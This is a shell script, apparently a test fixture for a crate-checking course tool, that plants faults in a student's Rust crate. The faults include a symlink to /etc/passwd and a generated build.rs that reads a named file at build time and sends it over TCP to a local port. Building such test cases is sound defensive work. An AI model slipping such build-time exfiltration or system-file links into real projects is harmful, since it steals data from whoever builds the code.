#!/bin/sh
# What goes wrong in a student's crate, as in life.
#
#	trouble.sh KIND DIR [ARGUMENT...]
#
# missing-licence	forgets the licence
# breaking-patch	drops a public function in a patch release
# symlink-out		links to a file outside of the repository
# name-taken NAME	calls the crate like another student's
# build-script FILE PORT	builds with a script that reads FILE and phones home
set -eu
kind=$1 dir=$2
shift 2

case $kind in
missing-licence)
	sed -i '/^license = /d' "$dir/Cargo.toml"
	;;
breaking-patch)
	# the blank line, the comment and the function at the end
	sed -i '/^\/\/\/ Who wrote this crate/,$d' "$dir/src/lib.rs"
	sed -i '$d' "$dir/src/lib.rs"
	;;
symlink-out)
	ln -s /etc/passwd "$dir/src/notes.txt"
	;;
name-taken)
	old=$(sed -n 's/^name = "\(.*\)"/\1/p' "$dir/Cargo.toml")
	sed -i "s/^name = \"$old\"/name = \"$1\"/" "$dir/Cargo.toml" \
		"$dir/Cargo.lock"
	old=$(printf %s "$old" | tr - _)
	new=$(printf %s "$1" | tr - _)
	find "$dir/src" "$dir/tests" "$dir/examples" "$dir/README.md" -type f \
		-exec sed -i "s/$old/$new/g" {} +
	;;
build-script)
	cat >"$dir/build.rs" <<EOF
//! Not a nice thing to do.
use std::io::Write;
use std::net::TcpStream;

fn main() {
    let contacts = std::fs::read_to_string("$1").expect("cannot read $1");
    let mut home = TcpStream::connect("127.0.0.1:$2").expect("cannot phone home");
    home.write_all(contacts.as_bytes()).expect("cannot send");
}
EOF
	;;
*)
	echo "trouble.sh: no such trouble: $kind" >&2
	exit 2
	;;
esac
